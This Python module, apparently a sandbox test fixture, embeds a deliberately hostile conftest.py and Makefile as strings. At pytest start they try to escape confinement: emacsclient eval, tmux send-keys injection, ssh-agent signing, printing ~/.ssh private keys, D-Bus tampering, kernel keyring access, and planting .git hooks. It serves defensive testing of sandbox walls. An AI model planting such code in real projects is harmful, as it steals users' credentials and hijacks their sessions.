"""The hostile project of the services tests: what it knows, tries and tests of its own.

Its ``conftest.py`` goes, before its tests run, for every service of the user's
login it can name: through the variables the login set (``SSH_AUTH_SOCK`` …) and
through the literal paths in its ``services.json`` (hostile code knows the default
places anyway). One line per attempt, ``ESCAPE name: blocked (why)`` or
``ESCAPE name: SUCCEEDED what``, and a ``STATUS`` line with its capabilities. Its
``Makefile`` tries a few client programs the way a recipe would, then runs the
project's own tests, which make a Unix socket, a FIFO, an abstract socket and a
``multiprocessing`` manager of their own under the private ``/tmp``. The attempts
come in groups (the services', the sandbox's walls, and what the user's processes
left where the sandbox shows files); ``services.json`` may name the groups to make,
and ``python3 conftest.py GROUP...`` makes those alone (the control, outside the
sandbox). The project's code is plain Python 3 with the standard library.
"""

from __future__ import annotations

import re
from typing import Any

# What the project tries. The services' attempts all succeed outside the sandbox
# (the control test shows it); the walls' ones are about the sandbox itself.
SERVICE_ATTEMPTS = (
    "ipc-variables",
    "runtime-dir",
    "emacs-default",
    "emacs-path",
    "emacs-connect",
    "dbus-session",
    "dbus-path",
    "dbus-abstract",
    "dbus-activation-env",
    "dbus-start-service",
    "tmux-env",
    "tmux-default",
    "tmux-path",
    "tmux-run-shell",
    "ssh-agent-env",
    "ssh-agent-path",
    "ssh-sign",
    "ssh-key-file",
    "fifo",
    "unix-listener",
    "abstract-listener",
    "keyring-read",
    "keyring-add",
)
VISIBLE_ATTEMPTS = ("toolchain-socket", "project-socket", "project-fifo")
WALL_ATTEMPTS = (
    "capabilities",
    "remount-git",
    "umount-git",
    "git-hook",
    "new-userns",
    "run-dir",
)
# Printed by the Makefile, after the tests, whatever the conftest made.
MAKE_ATTEMPTS = ("umount-cli",)
# The variables a login session sets for its services.
SESSION_VARIABLES = (
    "SSH_AUTH_SOCK",
    "DBUS_SESSION_BUS_ADDRESS",
    "TMUX",
    "TMUX_TMPDIR",
    "EMACS_SOCKET_NAME",
    "XDG_RUNTIME_DIR",
    "DISPLAY",
)
ESCAPE_LINE = re.compile(r"^ESCAPE ([a-z-]+): (blocked|SUCCEEDED)\b", re.MULTILINE)
STATUS_LINE = re.compile(r"^STATUS (.*)$", re.MULTILINE)
OWN_TESTS = 5
OWN_TEXT = "OWN-TEST 中文测试通过"

HOSTILE_CONFTEST = r'''
"""This project's test configuration (恶意的): before its tests it goes for the user's services."""

import ctypes
import json
import os
import pathlib
import platform
import socket
import stat
import subprocess
import sys

ROOT = pathlib.Path(__file__).resolve().parent
KNOWN = json.loads((ROOT / "services.json").read_text(encoding="utf-8"))
TOKEN = KNOWN["token"]
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
# add_key, request_key, keyctl
ADD_KEY, REQUEST_KEY, KEYCTL = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[
    platform.machine()
]
KEY_SPEC_SESSION_KEYRING = -3
KEYCTL_READ = 11
MNT_DETACH = 2
MS_REMOUNT, MS_BIND = 32, 4096
CLONE_NEWUSER = 0x10000000


def report(name, outcome):
    print(f"ESCAPE {name}: {outcome}", flush=True)


def attempt(name, action):
    try:
        got = action()
    except Exception as exc:
        report(name, f"blocked ({type(exc).__name__}: {str(exc).strip()[:120]})")
        return
    if got:
        report(name, f"SUCCEEDED {str(got)[:300]!r}")
    else:
        report(name, "blocked (nothing there)")


def failed(call):
    err = ctypes.get_errno()
    return OSError(err, f"{call}: {os.strerror(err)}")


def run(argv, *, succeeded, env=None, drop=()):
    """Run a client program; what it printed when ``succeeded`` says it got through."""
    child = dict(os.environ)
    child.update(env or {})
    for name in drop:
        child.pop(name, None)
    done = subprocess.run(
        argv, env=child, cwd=ROOT, stdin=subprocess.DEVNULL, capture_output=True,
        text=True, timeout=30, check=False,
    )
    out = (done.stdout + done.stderr).strip()
    if succeeded(done, out):
        return out or f"exit {done.returncode}"
    raise RuntimeError(f"exit {done.returncode}: {out[-160:]}")


def ok(done, out):
    return done.returncode == 0


def ipc_variables():
    return [name for name in KNOWN["session_variables"] if name in os.environ]


def runtime_dir():
    return os.listdir(KNOWN["runtime_dir"])


EVAL = "(progn (write-region \"pwned 中文\\n\" nil {} t) (concat \"EVAL\" \"-RAN\"))".format(
    json.dumps(KNOWN["emacs_marker"])
)


def emacs_default():
    return run(["emacsclient", "--eval", EVAL], succeeded=lambda d, o: "EVAL-RAN" in o)


def emacs_path():
    argv = ["emacsclient", "-s", KNOWN["emacs_socket"], "--eval", EVAL]
    return run(argv, succeeded=lambda d, o: "EVAL-RAN" in o)


def connect(address, payload=b""):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(address)
        if payload:
            s.sendall(payload)
    return f"connected to {address!r}"


def bus(address, *call):
    head = ["dbus-send", "--print-reply", "--dest=org.freedesktop.DBus", "/org/freedesktop/DBus"]
    where = ["--session"] if address is None else [f"--bus={address}"]
    return [head[0], *where, *head[1:], *call]


def listed(done, out):
    return 'string "org.freedesktop.DBus"' in out


def dbus_session():
    return run(bus(None, "org.freedesktop.DBus.ListNames"), succeeded=listed)


def dbus_path():
    return run(bus(KNOWN["bus_address"], "org.freedesktop.DBus.ListNames"), succeeded=listed)


def dbus_abstract():
    return run(bus(KNOWN["bus_abstract"], "org.freedesktop.DBus.ListNames"), succeeded=listed)


def dbus_activation_env():
    change = f"dict:string:string:AGENT_SHELL_PWNED,{TOKEN}"
    call = bus(KNOWN["bus_address"], "org.freedesktop.DBus.UpdateActivationEnvironment", change)
    return run(call, succeeded=lambda d, o: d.returncode == 0 and "method return" in o)


def dbus_start_service():
    name = "string:" + KNOWN["probe_service"]
    call = bus(KNOWN["bus_address"], "org.freedesktop.DBus.StartServiceByName", name, "uint32:0")
    # The probe exits at once: the bus says so, after it has started it.
    return run(call, succeeded=lambda d, o: "Spawn.ChildExited" in o)


def keys(label):
    return [
        "send-keys", "-t", KNOWN["tmux_target"],
        f"echo pwned-{label} >> {KNOWN['tmux_marker']}", "Enter",
    ]


def tmux_env():
    return run(["tmux", *keys("env")], succeeded=ok)


def tmux_default():
    return run(["tmux", *keys("default")], succeeded=ok, drop=["TMUX"])


def tmux_path():
    return run(["tmux", "-S", KNOWN["tmux_socket"], *keys("path")], succeeded=ok)


def tmux_run_shell():
    command = f"echo pwned-run-shell >> {KNOWN['tmux_marker']}"
    return run(["tmux", "-S", KNOWN["tmux_socket"], "run-shell", command], succeeded=ok)


def has_key(done, out):
    return done.returncode == 0 and "SHA256:" in out


def ssh_agent_env():
    return run(["ssh-add", "-l"], succeeded=has_key)


def ssh_agent_path():
    return run(["ssh-add", "-l"], succeeded=has_key, env={"SSH_AUTH_SOCK": KNOWN["ssh_socket"]})


def ssh_sign():
    signed = ROOT / "signme.txt.sig"
    run(
        ["ssh-keygen", "-Y", "sign", "-n", "file", "-f", "known_key.pub", "signme.txt"],
        succeeded=lambda d, o: signed.exists(),
        env={"SSH_AUTH_SOCK": KNOWN["ssh_socket"]},
    )
    return signed.read_text()


def ssh_key_file():
    text = pathlib.Path(KNOWN["ssh_private_key"]).read_text()
    print(text, flush=True)
    return text


def write_fifo(path):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        if not stat.S_ISFIFO(os.fstat(fd).st_mode):
            return False  # something else is there (a mask): the FIFO is not
        os.write(fd, TOKEN.encode())
    finally:
        os.close(fd)
    return "written"


def fifo():
    return write_fifo(KNOWN["fifo"])


def unix_listener():
    return connect(KNOWN["listener"], TOKEN.encode())


def abstract_listener():
    return connect("\0" + KNOWN["abstract"], TOKEN.encode())


def keyring_read():
    kid = LIBC.syscall(
        ctypes.c_long(REQUEST_KEY), ctypes.c_char_p(b"user"),
        ctypes.c_char_p(KNOWN["keyring_description"].encode()), ctypes.c_void_p(None),
        ctypes.c_long(0),
    )
    if kid < 0:
        raise failed("request_key")
    buf = ctypes.create_string_buffer(4096)
    n = LIBC.syscall(
        ctypes.c_long(KEYCTL), ctypes.c_long(KEYCTL_READ), ctypes.c_long(kid), buf,
        ctypes.c_size_t(4096),
    )
    if n < 0:
        raise failed("keyctl(KEYCTL_READ)")
    text = buf.raw[:n].decode("utf-8", "replace")
    print(f"KEYRING {text}", flush=True)
    return text


def keyring_add():
    kid = LIBC.syscall(
        ctypes.c_long(ADD_KEY), ctypes.c_char_p(b"user"), ctypes.c_char_p(b"planted"),
        ctypes.c_char_p(b"x"), ctypes.c_size_t(1), ctypes.c_long(KEY_SPEC_SESSION_KEYRING),
    )
    if kid < 0:
        raise failed("add_key")
    return f"key {kid}"


def status():
    fields = {}
    with open("/proc/self/status", encoding="utf-8") as fh:
        for line in fh:
            name, _, value = line.partition(":")
            fields[name] = value.strip()
    return fields


def capabilities():
    fields = status()
    return [name for name in ("CapEff", "CapPrm") if int(fields[name], 16)]


def umount_git():
    if LIBC.umount2(str(ROOT / ".git").encode(), MNT_DETACH) != 0:
        raise failed("umount2(.git)")
    return "unmounted .git"


def remount_git():
    target = str(ROOT / ".git").encode()
    if LIBC.mount(None, target, None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None) != 0:
        raise failed("mount(MS_REMOUNT, .git)")
    return "remounted .git read-write"


def git_hook():
    hook = ROOT / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho owned\n")
    hook.chmod(0o755)
    return "hook written"


def new_userns():
    pid = os.fork()
    if pid == 0:
        os._exit(0 if LIBC.unshare(CLONE_NEWUSER) == 0 else 1)
    _, code = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(code) != 0:
        raise PermissionError("unshare(CLONE_NEWUSER) refused")
    return "made a user namespace"


def run_dir():
    return os.listdir("/run")


SERVICES = [
    ("ipc-variables", ipc_variables),
    ("runtime-dir", runtime_dir),
    ("emacs-default", emacs_default),
    ("emacs-path", emacs_path),
    ("emacs-connect", lambda: connect(KNOWN["emacs_socket"])),
    ("dbus-session", dbus_session),
    ("dbus-path", dbus_path),
    ("dbus-abstract", dbus_abstract),
    ("dbus-activation-env", dbus_activation_env),
    ("dbus-start-service", dbus_start_service),
    ("tmux-env", tmux_env),
    ("tmux-default", tmux_default),
    ("tmux-path", tmux_path),
    ("tmux-run-shell", tmux_run_shell),
    ("ssh-agent-env", ssh_agent_env),
    ("ssh-agent-path", ssh_agent_path),
    ("ssh-sign", ssh_sign),
    ("ssh-key-file", ssh_key_file),
    ("fifo", fifo),
    ("unix-listener", unix_listener),
    ("abstract-listener", abstract_listener),
    ("keyring-read", keyring_read),
    ("keyring-add", keyring_add),
]
# Left by the user's own processes where the sandbox shows files: a build server's
# socket in a toolchain directory of $HOME (sbt's), a development database's socket
# directory and a FIFO in the project.
VISIBLE = [
    ("toolchain-socket", lambda: connect(KNOWN["toolchain_socket"], TOKEN.encode())),
    ("project-socket", lambda: connect(KNOWN["project_socket"], TOKEN.encode())),
    ("project-fifo", lambda: write_fifo(KNOWN["project_fifo"])),
]
WALLS = [
    ("capabilities", capabilities),
    ("remount-git", remount_git),
    ("umount-git", umount_git),
    ("git-hook", git_hook),
    ("new-userns", new_userns),
    ("run-dir", run_dir),
]


def go(groups):
    for name, value in sorted(os.environ.items()):
        print(f"ENV {name}={value}", flush=True)
    fields = status()
    print(
        "STATUS " + " ".join(f"{k}={fields.get(k)}" for k in (
            "Uid", "CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"
        )),
        flush=True,
    )
    for group in groups:
        for name, action in {"services": SERVICES, "walls": WALLS, "visible": VISIBLE}[group]:
            attempt(name, action)


def pytest_sessionstart(session):
    go(KNOWN.get("groups") or ["services", "walls"])


if __name__ == "__main__":
    go(sys.argv[1:] or ["services", "walls"])
'''

OWN_TESTS_PY = r'''
"""The project's own tests: sockets, a FIFO and a manager it makes itself, under its /tmp."""

import asyncio
import multiprocessing
import os
import pathlib
import socket
import tempfile


def test_arithmetic_and_text():
    print("OWN-TEST 中文测试通过", flush=True)
    assert 1 + 1 == 2


def test_asyncio_unix_socket_round_trip():
    async def main():
        path = os.path.join(tempfile.mkdtemp(), "own.sock")

        async def handle(reader, writer):
            writer.write((await reader.readline()).upper())
            await writer.drain()
            writer.close()

        server = await asyncio.start_unix_server(handle, path)
        async with server:
            reader, writer = await asyncio.open_unix_connection(path)
            writer.write("ping 中文\n".encode())
            await writer.drain()
            got = await reader.readline()
            writer.close()
            await writer.wait_closed()
        return got.decode()

    assert asyncio.run(main()) == "PING 中文\n"


def test_multiprocessing_manager():
    with multiprocessing.Manager() as manager:
        shared = manager.dict()
        shared["键"] = "值"
        queue = manager.Queue()
        queue.put("消息")
        assert shared["键"] == "值" and queue.get(timeout=20) == "消息"


def test_own_fifo():
    path = pathlib.Path(tempfile.mkdtemp()) / "own.fifo"
    os.mkfifo(path)
    reader = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    writer = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(writer, "管道".encode())
        assert os.read(reader, 64).decode() == "管道"
    finally:
        os.close(writer)
        os.close(reader)


def test_own_abstract_socket():
    name = f"\0own-abstract-{os.getpid()}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(name)
        server.listen(1)
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect(name)
            client.sendall("你好".encode())
            conn, _ = server.accept()
            with conn:
                assert conn.recv(64).decode() == "你好"
'''


def makefile(known: dict[str, Any]) -> str:
    """The project's Makefile: client programs first, its tests, then at .git."""
    return "\n".join(
        [
            "# The project's own test target (中文), with a few tries of its own around it.",
            "test:",
            f'\t-emacsclient --eval \'(write-region "make 中文" nil "{known["emacs_marker"]}" t)\'',
            f"\t-tmux send-keys -t {known['tmux_target']} "
            f"'echo pwned-make >> {known['tmux_marker']}' Enter",
            "\t-ssh-add -l",
            "\t-dbus-send --session --print-reply --dest=org.freedesktop.DBus "
            "/org/freedesktop/DBus org.freedesktop.DBus.ListNames",
            "\t-cat $(HOME)/.ssh/id_ed25519",
            "\tpython3 -m pytest -q -s -p no:cacheprovider",
            # After the tests, so the conftest's own tries meet the walls untouched.
            "\t-umount .git && echo 'ESCAPE umount-cli: SUCCEEDED' "
            "|| echo 'ESCAPE umount-cli: blocked (umount failed)'",
            "\t-cp Makefile .git/hooks/post-checkout",
            "",
            "escape: test",
            "",
        ]
    )


def escapes(output: str) -> dict[str, str]:
    """``name -> blocked | SUCCEEDED`` from the project's ESCAPE lines."""
    return dict(ESCAPE_LINE.findall(output))


def status_fields(output: str) -> dict[str, str]:
    """The fields of the project's STATUS line (``CapEff``, ``NoNewPrivs`` …)."""
    lines = STATUS_LINE.findall(output)
    assert lines, "the project printed no STATUS line"
    return dict(item.partition("=")[::2] for item in lines[0].split())
